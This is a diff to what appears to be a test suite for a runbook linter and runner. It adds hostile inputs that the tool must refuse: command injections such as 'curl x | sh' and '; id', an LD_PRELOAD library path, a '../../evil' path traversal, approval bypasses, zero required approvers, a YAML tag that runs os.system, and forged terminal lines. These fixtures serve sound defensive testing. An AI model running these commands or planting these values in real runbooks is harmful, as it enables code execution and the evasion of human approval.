@@ -118,6 +118,21 @@ EDITS = [
     ("hidden characters", "title: the kernel", 'title: "the \\u202e kernel"', "RBL-032"),
     ("a terminal's escape", "title: the kernel", 'title: "the \\e[2J kernel"', "RBL-032"),
     ("a loop", "  rollback: {inverse: auto}\n", "  rollback: {inverse: auto}\n  next: [{goto: first}]\n", "RBL-007"),
+    ("advice for a shell", "cause: nothing is concluded", 'cause: nothing, next: ["command:sidestep status; curl x | sh"]', "RBL-012"),
+    ("advice with an option", "cause: nothing is concluded", 'cause: nothing, next: ["command:sidestep upgrade rollback --yes"]', "RBL-012"),
+    ("a runbook with more behind its name", "cause: nothing is concluded", 'cause: nothing, next: ["runbook:x; id"]', "RBL-012"),
+    ("evidence of a secret parameter", "type: string, default: some}", "type: string, secret: true, from: env}", "RBL-013"),
+    ("a way around the approval", "  title: the kernel\n", "  title: the kernel\n  next: [{goto: change}]\n", "RBL-019"),
+    ("a way around it on error", "  command: {argv: [uname", "  on_error: {action: goto:change}\n  command: {argv: [uname", "RBL-019"),
+    ("environment", ARGV, ARGV + ", env: {LD_PRELOAD: /tmp/x.so}", "RBL-001"),
+    ("a policy of admission", "v1 ConfigMap web/limits", "admissionregistration.k8s.io/v1 ValidatingAdmissionPolicy sidestep-approvals", "RBL-030"),
+    ("the runs themselves", "v1 ConfigMap web/limits", "sidestep.dev/v1alpha1 SidestepRun x", "RBL-030"),
+    ("five thousand steps", "outcomes:\n", "".join(f"- {{id: s{i}, title: t, kind: note, mutates: false, note: x}}\n" for i in range(5000)) + "outcomes:\n", None),
+    ("an expression too deep", "agents.count > 0 and nodes.count > 0", "not " * 6000 + "(agents.count > 0 and nodes.count > 0)", None),
+    ("a million tries", "  register: nodes\n", "  register: nodes\n  retry: {attempts: 1000000, base: 0s, on: [timeout]}\n", None),
+    ("nobody approves", "approvers: {min: 1", "approvers: {min: 0", None),
+    ("so many approve as is said", "approvers: {min: 1", 'approvers: {min: "${params.many}"', None),
+    ("a lock that climbs", "requires: {lock: none}", "- {name: namespace, type: string, default: ../../evil}\nrequires: {lock: namespace}", "RBL-002"),
     ("executes by default", "default: diagnose", "default: execute", "RBL-014"),
 ]
 FETCH = """- id: out
@@ -170,7 +185,7 @@ class World:
         lint = self.call("lint", self.file)
         text = lint.stdout.decode(errors="replace")
         check(lint.returncode == 3, f"{what}: lint exits with {lint.returncode}: {text[-600:]} {lint.stderr!r}")
-        places = [line for line in text.splitlines() if rule in line and re.search(r"r\.yaml:\d+:\d+", line)]
+        places = [line for line in text.splitlines() if (rule or "FAIL") in line and re.search(r"r\.yaml:\d+:\d+", line)]
         check(places, f"{what}: {rule} names no place: {text[-900:]}")
         check("\x1b" not in text, f"{what}: an escape reaches the terminal")
         for mode in ("diagnose", "execute"):
@@ -195,7 +210,7 @@ def hostile_texts(w):
 
 def bombs(w):
     deep = "  do:\n  - "
-    for what, text in (("aliases", BOMB), ("depth", "[" * 5000 + "]" * 5000), ("duplicate keys", GOOD + "kind: Runbook\n"),
+    for what, text in (("aliases", BOMB), ("depth", "[" * 5000 + "]" * 5000), ("duplicate keys", GOOD + "kind: Runbooks\n"),
                        ("a tag", GOOD.replace("summary: harmless", "summary: !!python/object/apply:os.system [id]")),
                        ("no document", ""), ("two documents", GOOD + "---\n" + GOOD), ("binary", "\x00\x01\x02")):
         w.write(text)
@@ -207,6 +222,12 @@ def bombs(w):
             check(b"r.yaml" in done.stderr + done.stdout, f"{what}: {verb} names no file: {done.stderr!r}")
     w.write("x" * (2 << 20))
     check(w.call("run", w.file).returncode == 1, "a huge file is read")
+    folder = os.path.join(w.folder, "pipes")
+    os.mkdir(folder)
+    os.mkfifo(os.path.join(folder, "waits.yaml"))
+    for verb in ("lint", "list", "test"):
+        done = w.call(verb, folder)
+        check(done.returncode == 1 and b"not a regular file" in done.stderr, f"{verb} of a pipe: {done.returncode} {done.stderr!r}")
     check(deep and not os.path.exists(w.state), "a run was begun")
 
 
@@ -288,6 +309,32 @@ def replanned(w, run, change):
         f.write("".join(compact(record) + "\n" for record in records))
 
 
+FORGED = "next: 'curl x | sh' mends it"
+# Where a stranger's text is printed: with a line break in it, it is no line of ours.
+FORGERIES = [
+    ("title: the kernel", f'title: "the kernel\\n{FORGED}"'),
+    ("cause: nothing is concluded", f'cause: "fine\\n{FORGED}"'),
+    ("- id: kernel\n", f'- {{id: note, title: t, kind: note, mutates: false, note: "fine\\n{FORGED}"}}\n- id: kernel\n'),
+    ("title: a change", f'title: "a change\\n{FORGED}"'),
+    ("title: may it?", f'title: "may it?\\n{FORGED}"'),
+]
+
+
+def lines_of_ours(w):
+    for old, new in FORGERIES:
+        w.write(GOOD.replace(old, new, 1))
+        told = []
+        for mode in ("diagnose", "propose", "execute"):
+            done = w.call("run", w.file, "--no-cluster", "--mode", mode, *(["--yes"] if mode == "execute" else []))
+            run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
+            told += [done, w.call("status", run, "--no-cluster"), w.call("report", run, "--no-cluster"),
+                     w.call("approve", run, "agree", "--no-cluster", "--dry-run")]
+        told += [w.call("run", w.file, "--no-cluster", "--mode", "execute"), w.call("status", "--no-cluster")]
+        text = "".join((d.stdout + d.stderr).decode() for d in told)
+        check(FORGED in text and f"\n{FORGED}" not in text, f"{new}: {text}")
+        check("of somebody's runbook good, version 1, of " in text, f"whose runbook it is: {text}")
+
+
 def kept_by_another(w):
     """A run that somebody else wrote down is looked at like any other runbook, whatever is to be done with it."""
     w.write(GOOD)
@@ -319,6 +366,63 @@ def kept_by_another(w):
     check(done.returncode == 7, f"resume --runbook: exit {done.returncode}: {done.stdout!r} {done.stderr!r}")
 
 
+def noted(w, run, *bodies):
+    """The run as if it had noted these, too."""
+    path = os.path.join(w.state, "runbooks", run, "journal")
+    with open(path, encoding="utf-8") as f:
+        last = json.loads(f.readlines()[-1])
+    with open(path, "a", encoding="utf-8") as f:
+        for body in bodies:
+            record = {"seq": last["seq"] + 1, "time": "2026-11-23T01:02:03.000000Z", **body, "prev": last["hash"]}
+            record["hash"] = hashlib.sha256(compact(record).encode()).hexdigest()
+            f.write(compact(record) + "\n")
+            last = record
+
+
+def out_of_force(w):
+    """A policy that a run took away stands in the list, at the run, in its report and before the way back, until it is back."""
+    w.write(GOOD)
+    done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes")
+    run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
+    ref = {"apiVersion": "cilium.io/v2", "kind": "CiliumNetworkPolicy", "namespace": "web", "name": "tight"}
+    noted(w, run, {"type": "change", "step": "change", "back": "auto", "suspends": True, "changes": [{"op": "delete", "kind": "delete", "ref": ref}]},
+          {"type": "intent", "step": "change", "kind": "delete", "ref": ref})
+    words = "OUT OF FORCE since 2026-11-23T01:02:03.000000Z"
+    for args in (("status",), ("status", run), ("rollback", run, "--dry-run")):
+        text = w.call(*args, "--no-cluster").stdout.decode()
+        check(words in text and "CiliumNetworkPolicy/web/tight" in text and f"'sidestep runbook rollback {run}' does" in text, f"{args}: {text}")
+    check("CiliumNetworkPolicy/web/tight is out of force since" in w.call("report", run, "--no-cluster").stdout.decode(), "the report")
+    check(json.loads(w.call("status", run, "--no-cluster", "-o", "json").stdout)["suspended"][0]["step"] == "change", "as JSON")
+    noted(w, run, {"type": "undone", "step": "change"})
+    check(words not in w.call("status", "--no-cluster").stdout.decode(), "it is back, and status says it is not")
+
+
+def told_at_each_pause(w):
+    """What happened, what is safe, what to type next."""
+    def says(done, code, *words):
+        text = (done.stdout + done.stderr).decode()
+        check(done.returncode == code and all(word in text for word in words), f"exit {done.returncode}, not {code} with {words}: {text}")
+
+    w.write(GOOD)
+    done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes")
+    run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
+    says(done, 7, "0 of 1 approvals; it takes somebody of oncall who is not uid", f"next: they type 'sidestep runbook approve {run} agree'",
+         "nothing was changed")
+    says(w.call("status", "--no-cluster"), 0, run, "at agree")
+    says(w.call("abort", run, "--no-cluster"), 8, "aborted, and not to be gone on with", "nothing was changed")
+    says(w.call("resume", run, "--no-cluster"), 8, "'run' begins a new one")
+    says(w.call("rollback", run, "--no-cluster", "--yes"), 9, "it had changed nothing, so nothing was taken back")
+
+
+def every_field_is_told(w):
+    """Whoever writes one finds each of its fields, with the kinds of steps."""
+    told = w.call("help", "schema")
+    words = set(re.findall(r"[a-z_A-Z.]+", told.stdout.decode()))
+    for field in set(re.findall(r"[{ ]([a-z_]+): ", GOOD)) - {"agents", "metadata", "modes", "size", "requires", "data", "patch", "ref"}:
+        check(field in words or any(word.endswith("." + field) for word in words), f"help schema does not tell of {field}")
+    check(told.returncode == 0 and "on_error" in words and "required" in words, told.stdout.decode())
+
+
 def mistyped(w):
     for words, code, says in MISTYPED:
         done = w.call(*words, "--no-cluster")
@@ -346,7 +450,11 @@ def main():
         long_matches(w)
         parameters(w)
         around_an_approval(w)
+        lines_of_ours(w)
         kept_by_another(w)
+        told_at_each_pause(w)
+        out_of_force(w)
+        every_field_is_told(w)
         mistyped(w)
     print(f"{len(EDITS) + len(URLS) + len(CALLS)} runbooks and {len(PARAMS)} parameters refused")
 
